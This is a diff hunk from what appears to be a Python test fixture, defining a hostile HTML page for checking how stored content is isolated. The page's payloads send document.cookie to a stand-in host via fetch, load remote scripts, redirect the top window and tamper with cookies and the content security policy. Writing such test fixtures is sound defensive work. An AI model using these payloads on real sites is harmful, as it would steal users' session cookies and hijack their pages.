@@ -7,7 +7,7 @@ from __future__ import annotations
 FAR = "https://elsewhere.test"
 RUN = "document.title='ran';document.cookie='ran=1;path=/';top.location='https://elsewhere.test/top'"
 HOSTILE_PAGE = f"""<!doctype html><html onclick="{RUN}"><head><meta charset="utf-8"><title>stored</title>
-<script>{RUN}; fetch('{FAR}/' + document.cookie); parent.postMessage('ran', '*')</script>
+<script>fetch('{FAR}/' + document.cookie); {RUN}; parent.postMessage('ran', '*')</script>
 <script src="{FAR}/a.js"></script><script type="module">import '{FAR}/m.js'</script>
 <meta http-equiv="refresh" content="0;url={FAR}/refresh">
 <meta http-equiv="Set-Cookie" content="ran=1"><meta http-equiv="content-security-policy" content="">
